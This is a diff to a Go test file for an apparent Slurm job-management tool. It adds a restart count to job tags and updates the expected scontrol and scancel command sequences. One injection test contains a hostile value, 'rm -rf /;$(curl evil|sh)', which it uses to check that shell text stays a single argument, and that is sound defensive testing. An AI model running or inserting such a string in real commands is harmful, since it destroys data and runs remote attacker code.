@@ -21,6 +21,13 @@ func pendingHeld(id int) Job {
 		AdminComment: "model_type=gpt2"}
 }
 
+// requeued is pendingHeld once requeued: its restart count is 1.
+func requeued(id int) Job {
+	j := pendingHeld(id)
+	j.RestartCount = 1
+	return j
+}
+
 type applierFixture struct {
 	runner  *fakeRunner
 	cluster *fakeCluster
@@ -63,7 +70,7 @@ func TestApplyStart(t *testing.T) {
 	want := [][]string{
 		{"/usr/bin/scontrol", "update", "JobId=33", "NumNodes=2-2", "NumTasks=2", "CPUsPerTask=4", "NumCPUs=8",
 			"MinMemoryNode=16000", "Gres=gpu:4", "NodeList=node3,node4"},
-		{"/usr/bin/scontrol", "update", "JobId=33", planTagAC},
+		{"/usr/bin/scontrol", "update", "JobId=33", planTagAC + " rc=0"},
 		{"/usr/bin/scontrol", "release", "33"},
 	}
 	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
@@ -179,28 +186,34 @@ func restartAction() Action {
 		MemPerNodeMB: 64000, Tag: planTag}
 }
 
-var restartArgv = [][]string{
-	{"/usr/bin/scancel", "--signal=USR1", "--batch", "32"},
-	{"/usr/bin/scontrol", "requeuehold", "32"},
-	{"/usr/bin/scontrol", "update", "JobId=32", "NumNodes=2-2", "NumTasks=2", "CPUsPerTask=16", "NumCPUs=32",
-		"MinMemoryNode=64000", "Gres=gpu:8", "NodeList=node1,node2"},
-	{"/usr/bin/scontrol", "update", "JobId=32", planTagAC},
-	{"/usr/bin/scontrol", "update", "JobId=32", "StartTime=now"},
-	{"/usr/bin/scontrol", "release", "32"},
+// restartArgv is a restart's commands for a job whose restart count is rc
+// once requeued: the requeue acknowledged in its tag at once, then the
+// resize, the new tag, the start time and the release.
+func restartArgv(rc string) [][]string {
+	return [][]string{
+		{"/usr/bin/scancel", "--signal=USR1", "--batch", "32"},
+		{"/usr/bin/scontrol", "requeuehold", "32"},
+		{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 rc=" + rc},
+		{"/usr/bin/scontrol", "update", "JobId=32", "NumNodes=2-2", "NumTasks=2", "CPUsPerTask=16", "NumCPUs=32",
+			"MinMemoryNode=64000", "Gres=gpu:8", "NodeList=node1,node2"},
+		{"/usr/bin/scontrol", "update", "JobId=32", planTagAC + " rc=" + rc},
+		{"/usr/bin/scontrol", "update", "JobId=32", "StartTime=now"},
+		{"/usr/bin/scontrol", "release", "32"},
+	}
 }
 
 func TestApplyRestart(t *testing.T) {
-	completing := pendingHeld(32)
+	completing := requeued(32)
 	completing.StateFlags = []string{StateCompleting}
 	tests := map[string]struct {
 		states     []Job
 		wantSleeps []time.Duration
 	}{
 		// checkpoint wait, then the release delay measured from the requeue
-		"pending at once": {[]Job{running(32, "node2", "node3"), running(32, "node2", "node3"), pendingHeld(32)},
+		"pending at once": {[]Job{running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32)},
 			[]time.Duration{30 * time.Second, 2 * time.Second}},
 		// two polls of 1 s already cover the 2 s release delay
-		"completing first": {[]Job{running(32, "node2", "node3"), running(32, "node2", "node3"), completing, pendingHeld(32)},
+		"completing first": {[]Job{running(32, "node2", "node3"), running(32, "node2", "node3"), completing, completing, requeued(32)},
 			[]time.Duration{30 * time.Second, time.Second, time.Second}},
 	}
 	for name, tc := range tests {
@@ -210,7 +223,7 @@ func TestApplyRestart(t *testing.T) {
 			if res.Err != nil {
 				t.Fatalf("Err = %v; steps %+v", res.Err, res.Steps)
 			}
-			if diff := cmp.Diff(restartArgv, f.runner.Calls()); diff != "" {
+			if diff := cmp.Diff(restartArgv("1"), f.runner.Calls()); diff != "" {
 				t.Errorf("argv (-want +got):\n%s", diff)
 			}
 			if diff := cmp.Diff(tc.wantSleeps, f.clock.Sleeps()); diff != "" {
@@ -223,12 +236,12 @@ func TestApplyRestart(t *testing.T) {
 func TestApplyRestartResumesHalfDoneRestart(t *testing.T) {
 	// A previous attempt requeued the job and stopped: no second signal or
 	// requeue, but StartTime=now and the release still happen.
-	f := newApplierFixture(t, map[int][]Job{32: {pendingHeld(32)}}, nil)
+	f := newApplierFixture(t, map[int][]Job{32: {requeued(32)}}, nil)
 	res := f.app.ApplyOne(context.Background(), restartAction())
 	if res.Err != nil {
 		t.Fatal(res.Err)
 	}
-	if diff := cmp.Diff(restartArgv[2:], f.runner.Calls()); diff != "" {
+	if diff := cmp.Diff(restartArgv("1")[2:], f.runner.Calls()); diff != "" {
 		t.Errorf("argv (-want +got):\n%s", diff)
 	}
 }
@@ -237,22 +250,22 @@ func TestApplyRestartFailureRereadsJob(t *testing.T) {
 	half := pendingHeld(32)
 	half.NodeList = nil
 	half.GPUsPerNode = 4 // what Slurm says after the half-applied update
-	f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), running(32, "node2", "node3"), pendingHeld(32), half}}, nil)
-	f.runner.failAt = map[int]string{3: "scontrol: error: Node count specification invalid"}
+	f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32), requeued(32), half}}, nil)
+	f.runner.failAt = map[int]string{4: "scontrol: error: Node count specification invalid"}
 	res := f.app.ApplyOne(context.Background(), restartAction())
 
 	var ce *CommandError
 	if !errors.As(res.Err, &ce) {
 		t.Fatalf("Err = %v, want *CommandError", res.Err)
 	}
-	if diff := cmp.Diff(restartArgv[2], ce.Argv); diff != "" {
+	if diff := cmp.Diff(restartArgv("1")[3], ce.Argv); diff != "" {
 		t.Errorf("error argv (-want +got):\n%s", diff)
 	}
 	if !strings.Contains(res.Err.Error(), "Node count specification invalid") || !strings.Contains(res.Err.Error(), "NumNodes=2-2") {
 		t.Errorf("error %q lacks stderr or argv", res.Err)
 	}
-	if got := len(f.runner.Calls()); got != 3 {
-		t.Errorf("%d commands ran, want 3 (nothing after the failure)", got)
+	if got := len(f.runner.Calls()); got != 4 {
+		t.Errorf("%d commands ran, want 4 (nothing after the failure)", got)
 	}
 	if res.After == nil || res.After.GPUsPerNode != 4 {
 		t.Errorf("After = %+v, want the re-read job", res.After)
@@ -271,8 +284,8 @@ func TestApplyRestartPendingTimeout(t *testing.T) {
 	if !errors.Is(res.Err, ErrJobState) {
 		t.Fatalf("Err = %v, want ErrJobState", res.Err)
 	}
-	if got := len(f.runner.Calls()); got != 2 {
-		t.Errorf("%d commands, want signal + requeuehold only", got)
+	if got := len(f.runner.Calls()); got != 3 {
+		t.Errorf("%d commands, want signal, requeuehold and its acknowledgement only", got)
 	}
 	if res.After == nil || res.After.State != StateRunning {
 		t.Errorf("After = %+v", res.After)
@@ -282,7 +295,7 @@ func TestApplyRestartPendingTimeout(t *testing.T) {
 func TestApplyCheckpointWait(t *testing.T) {
 	t.Run("injected waiter", func(t *testing.T) {
 		var waited Job
-		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), running(32, "node2", "node3"), pendingHeld(32)}}, func(c *ApplierConfig) {
+		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32)}}, func(c *ApplierConfig) {
 			c.WaitCheckpoint = func(ctx context.Context, j Job) error { waited = j; return nil }
 			c.Signal = "TERM"
 		})
@@ -296,6 +309,8 @@ func TestApplyCheckpointWait(t *testing.T) {
 		want := [][]string{
 			{"/usr/bin/scancel", "--signal=TERM", "--batch", "32"},
 			{"/usr/bin/scontrol", "requeuehold", "32"},
+			// Without a tag of its own, the job's tag acknowledges the requeue.
+			{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 rc=1"},
 		}
 		if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
 			t.Errorf("argv (-want +got):\n%s", diff)
@@ -305,7 +320,7 @@ func TestApplyCheckpointWait(t *testing.T) {
 		// The run time so far goes into the tag only once the job is
 		// requeued: written earlier, a failed requeue would leave a running
 		// job whose tag counts its run twice.
-		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), running(32, "node2", "node3")}}, func(c *ApplierConfig) {
+		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), running(32, "node2", "node3"), requeued(32)}}, func(c *ApplierConfig) {
 			c.WaitCheckpoint = func(ctx context.Context, j Job) error { return nil }
 		})
 		tag := Tag{ModelType: "gpt2", Class: ClassBestEffort, Plan: "dp8.tp1.pp1.mb1.a1.z0", Generation: 1, Extra: map[string]string{"ran": "95"}}
@@ -316,7 +331,7 @@ func TestApplyCheckpointWait(t *testing.T) {
 		want := [][]string{
 			{"/usr/bin/scancel", "--signal=USR1", "--batch", "32"},
 			{"/usr/bin/scontrol", "requeuehold", "32"},
-			{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 class=best-effort plan=dp8.tp1.pp1.mb1.a1.z0 gen=1 ran=95"},
+			{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 class=best-effort plan=dp8.tp1.pp1.mb1.a1.z0 gen=1 ran=95 rc=1"},
 		}
 		if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
 			t.Errorf("argv (-want +got):\n%s", diff)
@@ -325,14 +340,15 @@ func TestApplyCheckpointWait(t *testing.T) {
 	t.Run("job requeued itself", func(t *testing.T) {
 		// rubick-srun requeues the job held after the checkpoint: no second
 		// requeuehold, which Slurm would refuse on a pending job.
-		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), pendingHeld(32)}}, func(c *ApplierConfig) {
+		f := newApplierFixture(t, map[int][]Job{32: {running(32, "node2", "node3"), requeued(32)}}, func(c *ApplierConfig) {
 			c.WaitCheckpoint = func(ctx context.Context, j Job) error { return nil }
 		})
 		res := f.app.ApplyOne(context.Background(), Action{Kind: ActionPreempt, JobID: 32})
 		if res.Err != nil {
 			t.Fatal(res.Err)
 		}
-		want := [][]string{{"/usr/bin/scancel", "--signal=USR1", "--batch", "32"}}
+		want := [][]string{{"/usr/bin/scancel", "--signal=USR1", "--batch", "32"},
+			{"/usr/bin/scontrol", "update", "JobId=32", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 rc=1"}}
 		if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
 			t.Errorf("argv (-want +got):\n%s", diff)
 		}
@@ -346,7 +362,7 @@ func TestApplyCheckpointWait(t *testing.T) {
 		if res.Err != nil {
 			t.Fatal(res.Err)
 		}
-		if len(f.runner.Calls()) != 2 || !strings.Contains(res.Steps[2].Note, "requeueing anyway") {
+		if len(f.runner.Calls()) != 3 || !strings.Contains(res.Steps[2].Note, "requeueing anyway") {
 			t.Errorf("steps %+v", res.Steps)
 		}
 	})
@@ -371,7 +387,7 @@ func TestApplyAnnotateShellTextIsOneArgument(t *testing.T) {
 		t.Fatal(res.Err)
 	}
 	want := [][]string{{"/usr/bin/scontrol", "update", "JobId=9",
-		"AdminComment=note `id`; rm -rf /;$(curl evil|sh);rubick:v1 model=gpt2 gen=1"}}
+		"AdminComment=note `id`; rm -rf /;$(curl evil|sh);rubick:v1 model=gpt2 gen=1 rc=0"}}
 	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
 		t.Errorf("argv (-want +got):\n%s", diff)
 	}
@@ -379,7 +395,7 @@ func TestApplyAnnotateShellTextIsOneArgument(t *testing.T) {
 
 func TestApplyAnnotateNoop(t *testing.T) {
 	j := running(5, "node1")
-	j.AdminComment = "model_type=gpt2;" + planTag.String()
+	j.AdminComment, j.RestartCount = "model_type=gpt2;"+planTag.String()+" rc=2", 2
 	f := newApplierFixture(t, map[int][]Job{5: {j}}, nil)
 	res := f.app.ApplyOne(context.Background(), Action{Kind: ActionAnnotate, JobID: 5, Tag: planTag})
 	if res.Err != nil || len(f.runner.Calls()) != 0 {
@@ -622,7 +638,7 @@ func TestApplyRelease(t *testing.T) {
 		t.Fatal(res.Err)
 	}
 	want := [][]string{
-		{"/usr/bin/scontrol", "update", "JobId=52", "AdminComment=model_type=gpt2;rubick:v1 model=bert gen=1"},
+		{"/usr/bin/scontrol", "update", "JobId=52", "AdminComment=model_type=gpt2;rubick:v1 model=bert gen=1 rc=0"},
 		{"/usr/bin/scontrol", "release", "52"},
 	}
 	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
@@ -674,5 +690,42 @@ func TestApplyTimeLimit(t *testing.T) {
 	want = [][]string{{"/usr/bin/scontrol", "update", "JobId=5", "TimeLimit=96", "AdminComment=model_type=gpt2;rubick:v1 model=gpt2 class=best-effort gen=1 ts=96"}}
 	if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
 		t.Errorf("argv with a tag (-want +got):\n%s", diff)
+	}
+}
+
+// A tag goes with the job's restart count, and in the same update its
+// Comment loses rubick-srun's RequeueWord and, for a hold, gains the
+// user's hold word; the Comment is left alone otherwise.
+func TestApplyAnnotateComment(t *testing.T) {
+	tag := &Tag{ModelType: "gpt2", Generation: 1}
+	tests := map[string]struct {
+		comment string
+		hold    bool
+		want    []string // after JobId=
+	}{
+		"comment untouched": {"my note", false, []string{"AdminComment=model_type=gpt2;rubick:v1 model=gpt2 gen=1 rc=3"}},
+		"requeue word out": {"my note rubick:requeue", false,
+			[]string{"AdminComment=model_type=gpt2;rubick:v1 model=gpt2 gen=1 rc=3", "Comment=my note"}},
+		"hold":             {"my note", true, []string{"AdminComment=model_type=gpt2;rubick:v1 model=gpt2 gen=1 rc=3", "Comment=my note rubick:hold"}},
+		"hold, no comment": {"", true, []string{"AdminComment=model_type=gpt2;rubick:v1 model=gpt2 gen=1 rc=3", "Comment=rubick:hold"}},
+	}
+	for name, tc := range tests {
+		t.Run(name, func(t *testing.T) {
+			j := requeued(7)
+			j.RestartCount, j.Comment = 3, tc.comment
+			f := newApplierFixture(t, map[int][]Job{7: {j}}, nil)
+			res := f.app.ApplyOne(context.Background(), Action{Kind: ActionAnnotate, JobID: 7, Tag: tag, Hold: tc.hold})
+			if res.Err != nil {
+				t.Fatal(res.Err)
+			}
+			want := [][]string{append([]string{"/usr/bin/scontrol", "update", "JobId=7"}, tc.want...)}
+			if diff := cmp.Diff(want, f.runner.Calls()); diff != "" {
+				t.Errorf("argv (-want +got):\n%s", diff)
+			}
+		})
+	}
+	f := newApplierFixture(t, map[int][]Job{7: {requeued(7)}}, nil)
+	if res := f.app.ApplyOne(context.Background(), Action{Kind: ActionRelease, JobID: 7, Tag: tag, Hold: true}); !errors.Is(res.Err, ErrBadAction) {
+		t.Errorf("a hold with a release: %v, want ErrBadAction", res.Err)
 	}
 }
